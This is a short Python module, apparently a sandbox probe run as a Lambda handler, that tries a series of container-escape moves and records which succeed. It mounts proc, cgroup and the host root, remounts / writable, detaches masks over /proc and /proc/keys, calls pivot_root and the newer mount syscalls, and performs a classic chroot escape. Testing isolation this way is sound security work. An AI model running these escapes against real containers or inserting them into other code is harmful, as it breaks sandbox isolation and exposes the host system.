"""Changes what is mounted: takes the covers off /proc, mounts the host's disk, leaves the root."""

import os

from attempt import call, in_child

AT_FDCWD = -100
MS_BIND, MS_REMOUNT = 4096, 32
MNT_DETACH = 2
OPEN_TREE_CLONE = 1


def chroot_dance():
    """The escape for a root that is left with chroot: descriptors outside, then up."""
    os.makedirs("/tmp/cell", exist_ok=True)
    outside = os.open("/", os.O_RDONLY)
    word = call("chroot", b"/tmp/cell")
    if word == "ok":
        os.fchdir(outside)
        for _ in range(64):
            os.chdir("..")
        word = call("chroot", b".")
    return word


def lambda_handler(event, context):
    os.makedirs("/tmp/place", exist_ok=True)
    return {
        "mount proc": call("mount", b"proc", b"/tmp/place", b"proc", 0, None),
        "mount tmpfs": call("mount", b"tmpfs", b"/tmp/place", b"tmpfs", 0, None),
        "mount cgroup": call("mount", b"cgroup", b"/tmp/place", b"cgroup", 0, b"rdma"),
        "bind /": call("mount", b"/", b"/tmp/place", None, MS_BIND, None),
        "remount / writable": call("mount", None, b"/", None, MS_REMOUNT | MS_BIND, None),
        "umount /proc": call("umount2", b"/proc", MNT_DETACH),
        "umount /tmp": call("umount2", b"/tmp", MNT_DETACH),
        "umount a mask": call("umount2", b"/proc/keys", MNT_DETACH),
        "pivot_root": call("pivot_root", b"/tmp/place", b"/tmp/place"),
        "fsopen": call("fsopen", b"ext4", 0),
        "open_tree": call("open_tree", AT_FDCWD, b"/", OPEN_TREE_CLONE),
        "move_mount": call("move_mount", AT_FDCWD, b"/tmp", AT_FDCWD, b"/tmp/place", 0),
        "mount_setattr": call("mount_setattr", AT_FDCWD, b"/", 0, None, 0),
        "chroot dance": in_child(chroot_dance),
    }
